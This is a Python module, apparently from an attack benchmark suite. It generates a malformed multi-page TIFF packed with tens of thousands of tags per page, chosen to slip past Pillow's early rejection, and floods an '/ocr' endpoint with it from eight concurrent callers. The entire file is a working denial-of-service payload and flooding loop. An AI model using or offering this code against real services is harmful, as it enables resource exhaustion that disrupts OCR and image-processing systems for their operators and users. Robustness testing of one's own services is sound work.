"""TIFF files of 8 MB whose ten pages have 64 834 tags each."""

import struct
from multiprocessing.synchronize import Event

from benchmarks.attack.callers import Address, Outcomes, post, repeat

CALLERS = 8
_PAGES = 10
_SHORT = 3
# Width, height, bits, compression, photometric interpretation, strip offset, rows, strip size.
_NEEDED = {256: 8, 257: 8, 258: 1, 259: 1, 262: 1, 273: 0, 278: 8, 279: 8}
# Tags below describe the pixels. Pillow refuses a file with this other one at once.
_FIRST, _REFUSED = 701, 0xBC01


def attack(address: Address, stop: Event) -> Outcomes:
    """Send the files."""
    data = tiff_of_tags()
    return repeat(lambda: post(address, "/ocr", data), CALLERS, stop)


def tiff_of_tags() -> bytes:
    """Return such a file."""
    numbers = (number for number in range(_FIRST, 65_536) if number != _REFUSED)
    tags = {**dict.fromkeys(numbers, 1), **_NEEDED}
    entries = b"".join(
        struct.pack("<HHIHxx", number, _SHORT, 1, value) for number, value in sorted(tags.items())
    )
    size = 2 + len(entries) + 4
    # Each page names the position of the next one.
    following = [8 + size * page for page in range(1, _PAGES)] + [0]
    pages = [struct.pack("<H", len(tags)) + entries + struct.pack("<I", place) for place in following]
    return b"II*\0" + struct.pack("<I", 8) + b"".join(pages)
